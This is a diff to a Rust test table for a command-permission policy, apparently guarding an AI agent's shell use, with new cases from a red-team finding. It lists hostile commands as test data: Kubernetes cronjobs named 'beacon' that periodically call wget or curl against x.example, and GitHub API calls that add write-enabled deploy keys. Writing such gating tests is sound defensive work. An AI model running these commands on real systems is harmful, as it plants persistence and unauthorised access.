@@ -870,4 +870,25 @@ pub(crate) const CASES: &[Case] = &[
     allow("docker compose --env-file .env up -d"),
     allow("docker compose --env-file=.env build"),
     deny("files.deny-read", "docker compose --env-file .env config"),
+    // Persistence on a cluster or a forge (red team 16, cause 3).
+    ask(
+        "kubernetes.schedule",
+        "kubectl create cronjob beacon --image=busybox --schedule='*/5 * * * *' -- wget x.example",
+    ),
+    ask(
+        "kubernetes.schedule",
+        "kubectl -n prod create cj beacon --image=busybox --schedule=@hourly -- sh -c 'curl x'",
+    ),
+    ask("kubernetes.schedule", "oc create cronjob b --image=busybox --schedule=@daily -- true"),
+    allow("kubectl create cronjob beacon --image=busybox --schedule=@hourly --dry-run=client -o yaml"),
+    allow("kubectl get cronjobs"),
+    ask("credentials.mint", "gh api repos/acme/webapp/keys -f key='ssh-ed25519 AAAA x' -f title=ci"),
+    ask("credentials.mint", "gh api -X POST user/keys --input key.json"),
+    ask("credentials.mint", "gh api repos/acme/webapp/keys -f key=\"$(cat key.pub)\" -f title=ci"),
+    ask("credentials.mint", "gh api --method POST repos/acme/webapp/keys/ -F read_only=false"),
+    ask("credentials.mint", "gh repo deploy-key add key.pub --allow-write"),
+    allow("gh api repos/acme/webapp/keys"),
+    allow("gh api repos/acme/webapp/keys --jq '.[].title'"),
+    allow("gh api repos/acme/webapp/keys/12"),
+    allow("gh repo deploy-key list"),
 ];
